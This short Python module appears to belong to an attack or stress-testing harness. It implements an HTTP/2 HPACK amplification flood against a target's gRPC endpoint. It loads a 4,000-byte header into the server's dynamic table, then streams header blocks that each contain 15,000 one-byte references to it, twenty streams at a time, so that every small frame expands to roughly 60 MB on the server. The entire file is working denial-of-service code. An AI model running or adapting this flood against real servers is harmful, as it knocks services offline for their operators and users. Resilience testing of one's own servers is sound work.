"""Header blocks of 15,000 references of one byte to a field of 4 KB, twenty streams at a time."""

from wire import END_HEADERS, END_STREAM, GET, HEADERS, PREFACE, flood_connection, frame, settings

# A field of 4,000 bytes into the table: its index is then 62.
FIELD = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000


def chunks():
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + FIELD)
    for first in range(3, 1 << 30, 40):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + b"\xbe" * 15_000)
            for stream in range(first, first + 40, 2))  # fmt: skip


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
